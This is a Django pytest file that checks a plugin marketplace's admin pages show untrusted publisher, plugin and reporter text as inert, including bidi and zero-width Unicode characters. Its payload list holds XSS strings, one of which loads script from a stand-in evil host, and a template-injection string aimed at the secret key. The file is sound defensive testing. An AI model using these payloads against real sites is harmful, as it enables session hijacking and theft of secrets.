"""Whatever a publisher, a plugin or a reporter writes stays text on every page, and is seen as it is."""

from datetime import datetime

import pytest
from django.contrib.auth.models import User
from django.urls import reverse

from governance.admin.visible_text import show_text
from governance.flows.reports import file_report
from governance.flows.takedown import contain_plugin
from plugins.models import Publisher
from scanners.report import Capability
from tests.governance.admin.rows import SignIn, make_finding, make_review
from tests.samples.factories import MANIFEST, PublisherActor, make_published, pack_plugin

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "</pre></code></style><script src=//evil.example.invalid/x.js></script>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "<a href=javascript:alert(1)>click</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TAGS = (
    "<script>alert",
    "<script src=//",
    "<img src=x",
    "<svg onload",
    "<iframe",
    "<a href=javascript",
    "</pre></code>",
)


def _assert_inert(text: str) -> None:
    for tag in TAGS:
        assert tag not in text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_review_pages_render_no_markup_of_a_plugin(
    payload: str, ada: PublisherActor, ben: User, sign_in: SignIn, now: datetime
) -> None:
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    manifest = MANIFEST.format(name='"greeter"', title=f'"{quoted}"', version='"1.0.0"')
    manifest = manifest.replace("Says hello to whoever writes.", quoted)
    finding = make_finding(path=f"{payload}.py", title=payload, snippet=payload, why=payload, trace=[payload])
    told = Capability(payload, (payload,), (f"{payload}:1",), (payload,))
    review = make_review(ada, now=now, archive=pack_plugin(manifest=manifest), findings=[finding], capabilities=[told])
    browser = sign_in(ben)
    for address in (
        reverse("admin:queue"),
        reverse("admin:case", args=[review.pk]),
        reverse("admin:screening_finding_changelist"),
        reverse("admin:plugins_plugin_changelist"),
        reverse("admin:plugins_version_change", args=[review.version_id]),
    ):
        response = browser.get(address)
        assert response.status_code == 200
        _assert_inert(response.content.decode())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_moderation_pages_render_no_markup_of_a_reporter_or_publisher(
    payload: str, ada: PublisherActor, cleo: User, sign_in: SignIn, now: datetime
) -> None:
    Publisher.objects.filter(pk=ada.publisher.pk).update(display_name=payload)
    version = make_published(ada, now=now)
    report = file_report(
        publisher_slug="ada-labs",
        plugin_name="greeter",
        number=None,
        category="other",
        description=payload,
        reporter_email="eve@example.invalid",
        now=now,
    )
    browser = sign_in(cleo)
    contain = reverse("admin:contain", query={"plugin": "ada-labs/greeter", "versions": "*"})
    addresses = [
        reverse("admin:reports"),
        reverse("admin:report", args=[report.pk]),
        contain,
        reverse("admin:contain", query={"plugin": payload, "versions": payload}),
        reverse("admin:publishers"),
        reverse("admin:publisher", args=["ada-labs"]),
    ]
    for address in addresses:
        _assert_inert(browser.get(address).content.decode())
    takedown = contain_plugin(
        plugin_id=version.plugin_id,
        versions="*",
        grounds="malware",
        statement=payload,
        exposed_since=now,
        report_ids=[report.pk],
        actor=cleo,
        now=now,
    )
    _assert_inert(browser.get(reverse("admin:takedown", args=[takedown.pk])).content.decode())


def test_text_that_turns_the_reading_direction_is_spelled_out(
    ada: PublisherActor, ben: User, sign_in: SignIn, now: datetime
) -> None:
    finding = make_finding(path="invoice\u202egpj.py", title="zero\u200bwidth", snippet="if admin:\u2066 # \u2069 pass")
    review = make_review(ada, now=now, findings=[finding])
    text = sign_in(ben).get(reverse("admin:case", args=[review.pk])).content.decode()
    for unseen in "\u202e\u200b\u2066\u2069":
        assert unseen not in text
    assert "invoice⟨U+202E⟩gpj.py:7" in text
    assert "zero⟨U+200B⟩width" in text
    assert "⟨U+2066⟩" in text


def test_readable_text_stays_as_it_is() -> None:
    text = "Grüße, 你好, שלום\n\tnaïve — “quoted”"
    assert show_text(text) == text


def test_cut_text_says_how_much_is_missing() -> None:
    assert show_text("x" * 12, most_characters=10) == "xxxxxxxxxx … (2 more characters)"
